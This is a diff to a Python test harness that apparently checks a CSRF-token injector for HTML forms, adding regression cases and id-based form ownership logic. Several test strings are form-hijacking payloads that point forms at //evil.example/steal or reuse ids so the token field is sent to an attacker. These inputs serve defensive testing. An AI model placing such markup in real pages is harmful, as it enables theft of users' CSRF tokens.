@@ -254,6 +254,14 @@ REGRESSIONS = [
     "<template><col><title></template><button form=f formaction=//evil.example/></title></template>"
     "<form id=f method=post action=/f><input name=a></form>" + REAL,
     "<template><title>t</title><col><title></template>" + REAL,
+    # the tree depth cap (docs/architecture.md): past S + 2T + 3 = 480 a
+    # form without an id gets the injector's and its field form="" naming
+    # it (html5lib has no cap: the owner model's form="" rule is what these
+    # exercise); one with an id of its own after a ghost, reported
+    "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL,
+    "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL.replace("<form", "<form id=s"),
+    "<table></table>" * 160 + REAL + REAL.replace("post", "get") + REAL,
+    "<i>" * 476 + "<form/method=post>x</form><form method=post><template>" + REAL + "</template></form>",
 ]
 
 # Wrong placements by hand, judged without the injector: the oracle must
@@ -272,6 +280,12 @@ MUST_FLAG = [
     # issue 24: the adoption agency hands the field to the attacker's form
     "<form method=get action=https://evil.example/steal><div></form><table><form method=post action=/x>" +
     FIELD_TAG + "<a><div>",
+    # a field pinned by form="" to an id an earlier element of the
+    # attacker's has: the first element with the id owns it
+    "<form id=csrf-x method=get action=//evil.example/></form><form id=csrf-x method=post action=/x>" +
+    FIELD_TAG.replace(">", ' form="csrf-x">') + "</form>",
+    "<div id=csrf-x></div><form id=csrf-x method=post action=/x>" + FIELD_TAG.replace(">", ' form="csrf-x">') +
+    "</form>",
 ]
 
 
@@ -827,7 +841,8 @@ class Recorder:
         self.builder = Builder
         # injected fields: [element, owner by the pointer (None: none, or
         # lost when moved), inert, the form the pointer gave it when it was
-        # inserted (never cleared)]
+        # inserted (never cleared), its form="" (the injector's id of a
+        # form read deep in the tree) or None]
         self.fields = []
         # submit buttons: [attributes, element, owner by the pointer, fields injected before it]
         self.submitters = []
@@ -840,7 +855,8 @@ class Recorder:
         inert = template_open(tree)
         if token["name"] == "input" and attrs.get("name") == FIELD and attrs.get("value") == TOKEN:
             pointer = None if inert else tree.formPointer
-            self.fields.append([el._element, pointer, inert, None if pointer is None else pointer._element])
+            self.fields.append([el._element, pointer, inert, None if pointer is None else pointer._element,
+                                attrs.get("form")])
             return
         if inert or not is_submit(token["name"], attrs):
             return  # inert, or not a submitter
@@ -1010,8 +1026,17 @@ def leaks(html, scripting, status):
     owned_self = 0
     # each field's owner in the final tree: its pointer's form while it
     # stayed with it, else its nearest ancestor form
-    owners = [None if inert else (owner._element if owner is not None else nearest_form(parents, el))
-              for el, owner, inert, _ in rec.fields]
+    # A field with form="X" (the injector's id of a form read deep in
+    # the tree) is owned by the first element with id X, when that is a
+    # form, wherever the field is.
+    def field_owner(el, owner, inert, named):
+        if inert:
+            return None
+        if named is not None:
+            f = by_id(root, named)
+            return f if f is not None and f.tag == "form" else None
+        return owner._element if owner is not None else nearest_form(parents, el)
+    owners = [field_owner(el, owner, inert, named) for el, owner, inert, _, named in rec.fields]
     # The injector's promise: the field is a child of its form, so that
     # wherever the tree builder moves things its nearest ancestor form is
     # that form (a field owned through the pointer alone, as after a <form>
@@ -1022,8 +1047,13 @@ def leaks(html, scripting, status):
     # and its hidden field leave it "ok") is in no document: no submitter
     # can send it, and no form is its ancestor here.
     in_tree = {id(e) for e in root.iter()}
-    for el, _, inert, first in rec.fields:
+    for (el, _, inert, first, named), form_el in zip(rec.fields, owners):
         if inert or first is None:
+            continue
+        if named is not None:
+            # pinned by form="": owned by the form it went into, by id
+            if form_el is not first:
+                found.append("a field whose form=\"%s\" names another element than its form" % named)
             continue
         if id(el) not in in_tree and id(first) not in in_tree:
             continue
